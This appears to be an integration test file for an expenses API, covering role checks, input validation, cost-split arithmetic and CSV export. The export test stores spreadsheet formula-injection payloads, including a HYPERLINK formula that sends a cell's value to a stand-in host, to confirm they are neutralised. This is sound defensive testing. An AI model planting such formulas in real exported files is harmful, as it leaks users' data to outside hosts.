// Costs over real HTTP: who may see and book the club's money (owners and managers; members and viewers get
// 403 and nothing is written), bad input named by field, the totals and split as the pure module works them
// (tests/unit/planning/costs.test.ts has the hand-worked arithmetic), and the CSV export. The CSV is read back
// with papaparse and checked against RFC 4180 §2 (quoting of commas, quotes and line breaks) by hand, and
// against the OWASP "CSV Injection" guidance (a cell starting with = + - @ is prefixed with ').
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testDb } from '../support/db';
import { addMember, createPlot, createProperty, signedInUser, type Client, type TestUser } from '../support/http';

type Person = { user: TestUser; client: Client };
const db = testDb();
let dana: Person, lee: Person, sam: Person, viewer: Person, other: Person;
let propertyId: string;
let creek: { id: string }, ridge: { id: string };
let otherPlot: { id: string };

beforeAll(async () => {
  [dana, lee, sam, viewer, other] = await Promise.all(['exp-dana', 'exp-lee', 'exp-sam', 'exp-viewer', 'exp-other'].map((p) => signedInUser(p)));
  propertyId = (await createProperty(dana.client, { name: `Costs ${Date.now()}` })).id;
  creek = await createPlot(dana.client, propertyId, { name: 'Creek', acres: 0.5 });
  ridge = await createPlot(dana.client, propertyId, { name: 'Ridge', acres: 1.5 });
  await addMember(dana.client, propertyId, lee, 'manager');
  await addMember(dana.client, propertyId, sam, 'member');
  await addMember(dana.client, propertyId, viewer, 'viewer');
  const otherProperty = await createProperty(other.client);
  otherPlot = await createPlot(other.client, otherProperty.id);
});

afterAll(async () => {
  await db.destroy();
});

const count = async () =>
  Number((await db.selectFrom('expenses').select((eb) => eb.fn.countAll<string>().as('n')).where('property_id', '=', propertyId).executeTakeFirstOrThrow()).n);

const body = (o: Record<string, unknown> = {}) => ({
  plotId: '',
  season: 'fall',
  year: 2027,
  spentOn: '2027-08-20',
  category: 'seed',
  description: 'Clover seed',
  amount: '10.00',
  paidBy: dana.user.id,
  ...o,
});

describe('expenses', () => {
  it('members and viewers get 403 on every costs route, and nothing is written', async () => {
    const before = await count();
    for (const person of [sam, viewer]) {
      expect((await person.client.get(`/api/properties/${propertyId}/expenses`)).status).toBe(403);
      expect((await person.client.get(`/api/properties/${propertyId}/expenses/export`)).status).toBe(403);
      const post = await person.client.post(`/api/properties/${propertyId}/expenses`, body({ paidBy: person.user.id }));
      expect(post.status).toBe(403);
      expect(post.body.error).toMatch(/manager or owner/);
    }
    expect(await count()).toBe(before);
    // Nor can they delete one.
    const made = await dana.client.post(`/api/properties/${propertyId}/expenses`, body({ description: 'Kept' }));
    expect(made.status, made.text).toBe(201);
    expect((await sam.client.delete(`/api/properties/${propertyId}/expenses/${made.body.expense.id}`)).status).toBe(403);
    expect(await count()).toBe(before + 1);
    expect((await dana.client.delete(`/api/properties/${propertyId}/expenses/${made.body.expense.id}`)).status).toBe(204);
  });

  it('refuses bad input with a message naming the field, and writes nothing', async () => {
    const before = await count();
    const cases: [Record<string, unknown>, string, RegExp][] = [
      [{ amount: '12.345' }, 'amount', /dollars and cents/],
      [{ amount: '' }, 'amount', /required/],
      [{ amount: '-4' }, 'amount', /dollars and cents/],
      [{ category: 'beer' }, 'category', /Category must be one of/],
      [{ spentOn: '2027-02-30' }, 'spentOn', /real date/],
      [{ description: '  ' }, 'description', /required/],
      [{ category: 'labour', amount: '0' }, 'labourHours', /Labour hours are required/],
      [{ paidBy: viewer.user.id }, 'paidBy', /owner, manager or member/],
      [{ paidBy: other.user.id }, 'paidBy', /owner, manager or member/],
      [{ splitAmong: [dana.user.id, viewer.user.id] }, 'splitAmong', /owners, managers and members/],
      [{ splitAmong: [dana.user.id, dana.user.id] }, 'splitAmong', /once/],
      [{ plotId: otherPlot.id }, 'plotId', /this property’s plots/],
      [{ season: 'winter' }, 'season', /spring or fall/],
    ];
    for (const [patch, field, message] of cases) {
      const res = await lee.client.post(`/api/properties/${propertyId}/expenses`, body(patch));
      expect(res.status, `${field}: ${res.text}`).toBe(400);
      expect(res.body.fields?.[field], `${field}: ${res.text}`).toMatch(message);
    }
    expect(await count()).toBe(before);
  });

  it('totals per plot, per acre and per season, and the split, as worked by hand', async () => {
    const property = (await createProperty(dana.client, { name: `Split ${Date.now()}` })).id;
    const a = await createPlot(dana.client, property, { name: 'Creek', acres: 0.5 });
    await createPlot(dana.client, property, { name: 'Ridge', acres: 1.5 });
    await addMember(dana.client, property, lee, 'manager');
    await addMember(dana.client, property, viewer, 'viewer');
    // Seed $120 on Creek, paid by Dana, shared by Dana and Lee ($60 each). Fuel $40 for the whole property,
    // paid by Lee, split among nobody named = everyone who shares costs (Dana and Lee, not the viewer): $20 each.
    // Dana: paid 120, share 80, is owed 40. Lee: paid 40, share 80, owes 40 → Lee pays Dana $40.00.
    // Per plot: the $40 over 0.5 : 1.5 ac → $10 and $30; Creek $130 / 0.5 ac = $260/ac; Ridge $30 / 1.5 = $20/ac.
    for (const b of [
      body({ plotId: a.id, amount: '120', paidBy: dana.user.id, splitAmong: [dana.user.id, lee.user.id] }),
      body({ category: 'fuel', description: 'Diesel', amount: '$40.00', paidBy: lee.user.id, season: 'spring', spentOn: '2027-04-02' }),
    ]) {
      const res = await lee.client.post(`/api/properties/${property}/expenses`, b);
      expect(res.status, res.text).toBe(201);
    }
    const res = await dana.client.get(`/api/properties/${property}/expenses`);
    expect(res.status).toBe(200);
    expect(res.body.summary.plots.map((p: { plotName: string; totalCents: number; perAcreCents: number }) => [p.plotName, p.totalCents, p.perAcreCents])).toEqual([
      ['Creek', 13_000, 26_000],
      ['Ridge', 3_000, 2_000],
    ]);
    expect(res.body.summary).toMatchObject({ totalCents: 16_000, perAcreCents: 8_000, propertyWideCents: 4_000 });
    expect(res.body.summary.seasons.map((s: { season: string; totalCents: number }) => [s.season, s.totalCents])).toEqual([
      ['spring', 4_000],
      ['fall', 12_000],
    ]);
    const people = res.body.split.people.map((p: { personId: string; paidCents: number; shareCents: number; balanceCents: number }) => [p.personId, p.paidCents, p.shareCents, p.balanceCents]);
    expect(people).toEqual(
      expect.arrayContaining([
        [dana.user.id, 12_000, 8_000, 4_000],
        [lee.user.id, 4_000, 8_000, -4_000],
      ]),
    );
    expect(people).toHaveLength(2);
    expect(res.body.split.transfers).toEqual([{ fromId: lee.user.id, fromName: lee.user.name, toId: dana.user.id, toName: dana.user.name, amountCents: 4_000 }]);
    // The season filter narrows the expenses and the totals.
    const spring = await dana.client.get(`/api/properties/${property}/expenses?season=spring&year=2027`);
    expect(spring.body.expenses.map((e: { description: string }) => e.description)).toEqual(['Diesel']);
    expect(spring.body.summary.totalCents).toBe(4_000);
    expect((await dana.client.get(`/api/properties/${property}/expenses?season=summer`)).status).toBe(400);
  });

  it('exports CSV as an attachment that round-trips through a CSV parser with every field', async () => {
    const tricky = 'Seed "premium", 2 bags\nfrom the co-op';
    const made = [
      await lee.client.post(`/api/properties/${propertyId}/expenses`, body({ plotId: creek.id, description: tricky, amount: '89.99', splitAmong: [sam.user.id, lee.user.id] })),
      await lee.client.post(`/api/properties/${propertyId}/expenses`, body({ plotId: ridge.id, category: 'labour', description: '=HYPERLINK("x")', amount: '0', labourHours: 3.5, season: 'spring', spentOn: '2027-04-10' })),
    ];
    // A formula whose first line ends in a newline: papaparse's single-line escape pattern let it through.
    const multiLine = '=HYPERLINK("http://example.test/?d="&A2,"receipt")\nfuel for the mower';
    made.push(await lee.client.post(`/api/properties/${propertyId}/expenses`, body({ category: 'fuel', description: multiLine, amount: '1.00' })));
    for (const m of made) expect(m.status, m.text).toBe(201);
    const res = await lee.client.get(`/api/properties/${propertyId}/expenses/export`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="sowcast-expenses-costs-\d+\.csv"$/);
    // RFC 4180 §2.6–2.7: a field with a comma, quote or line break is quoted, and its quotes are doubled.
    expect(res.text).toContain('"Seed ""premium"", 2 bags\nfrom the co-op"');
    const parsed = Papa.parse<Record<string, string>>(res.text, { header: true, skipEmptyLines: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual(['Date', 'Season', 'Year', 'Plot', 'Category', 'Description', 'Amount (USD)', 'Labour hours', 'Paid by', 'Split among']);
    const seed = parsed.data.find((r) => r.Description === tricky)!;
    expect(seed).toEqual({
      Date: '2027-08-20', Season: 'fall', Year: '2027', Plot: 'Creek', Category: 'Seed', Description: tricky, 'Amount (USD)': '89.99',
      'Labour hours': '', 'Paid by': dana.user.name, // In the order the expense named them.
      'Split among': `${sam.user.name}; ${lee.user.name}`,
    });
    // OWASP CSV injection: the formula-looking description comes back prefixed with a quote, so it is text.
    const labour = parsed.data.find((r) => r.Category === 'Labour')!;
    expect(labour).toMatchObject({ Description: `'=HYPERLINK("x")`, 'Amount (USD)': '0.00', 'Labour hours': '3.5', Plot: 'Ridge', 'Split among': 'Everyone who shares costs' });
    expect(parsed.data.find((r) => r.Description.includes('fuel for the mower'))?.Description).toBe(`'${multiLine}`);
    // Every row of the database is in the file, each amount to the cent.
    const rows = await db.selectFrom('expenses').select(['amount_cents']).where('property_id', '=', propertyId).execute();
    expect(parsed.data).toHaveLength(rows.length);
    const fileCents = parsed.data.reduce((a, r) => a + Math.round(Number(r['Amount (USD)']) * 100), 0);
    expect(fileCents).toBe(rows.reduce((a, r) => a + r.amount_cents, 0));

    const spring = Papa.parse<Record<string, string>>((await lee.client.get(`/api/properties/${propertyId}/expenses/export?season=spring&year=2027`)).text, { header: true, skipEmptyLines: true });
    expect(spring.data.map((r) => r.Season)).toEqual(['spring']);
  });

  it('an expense of one property cannot be deleted through another property’s address', async () => {
    const mine = await createProperty(lee.client);
    const made = await dana.client.post(`/api/properties/${propertyId}/expenses`, body({ description: 'Not through there' }));
    expect((await lee.client.delete(`/api/properties/${mine.id}/expenses/${made.body.expense.id}`)).status).toBe(404);
    expect(await db.selectFrom('expenses').select('id').where('id', '=', made.body.expense.id).executeTakeFirst()).toBeDefined();
    expect((await dana.client.delete(`/api/properties/${propertyId}/expenses/not-a-uuid`)).status).toBe(404);
  });
});
